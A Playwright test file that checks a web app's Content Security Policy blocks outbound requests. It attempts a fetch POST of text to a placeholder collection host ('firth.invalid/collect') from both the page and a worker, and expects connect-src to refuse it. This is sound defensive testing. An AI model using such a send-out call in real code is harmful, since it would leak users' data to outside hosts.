import { expect } from '@playwright/test';
import { openPage, test } from '../support/page';

const ELSEWHERE = 'https://firth.invalid/collect';

/** Runs in the page and in the worker: tries to send a text, and says which rule of the policy stopped it. */
async function trySending(address: string): Promise<string> {
  const broken = new Promise<string>((resolve) => {
    globalThis.addEventListener('securitypolicyviolation', (event) => {
      if ('effectiveDirective' in event) resolve(event.effectiveDirective);
    });
    setTimeout(() => resolve('no rule'), 3000);
  });
  const sent = await fetch(address, { method: 'POST', body: 'a text' }).then(
    () => 'sent',
    () => 'refused',
  );
  return `${sent}, by ${await broken}`;
}

test('the browser refuses to send anything from the page to elsewhere', async ({ page, watch }) => {
  watch.expectError(/Content Security Policy/);
  await openPage(page);
  expect(await page.evaluate(trySending, ELSEWHERE)).toBe('refused, by connect-src');
});

test('the browser refuses to send anything from the worker to elsewhere', async ({ page, watch }) => {
  watch.expectError(/Content Security Policy/);
  const started = page.waitForEvent('worker');
  await openPage(page);
  const worker = await started;
  expect(await worker.evaluate(trySending, ELSEWHERE)).toBe('refused, by connect-src');
});
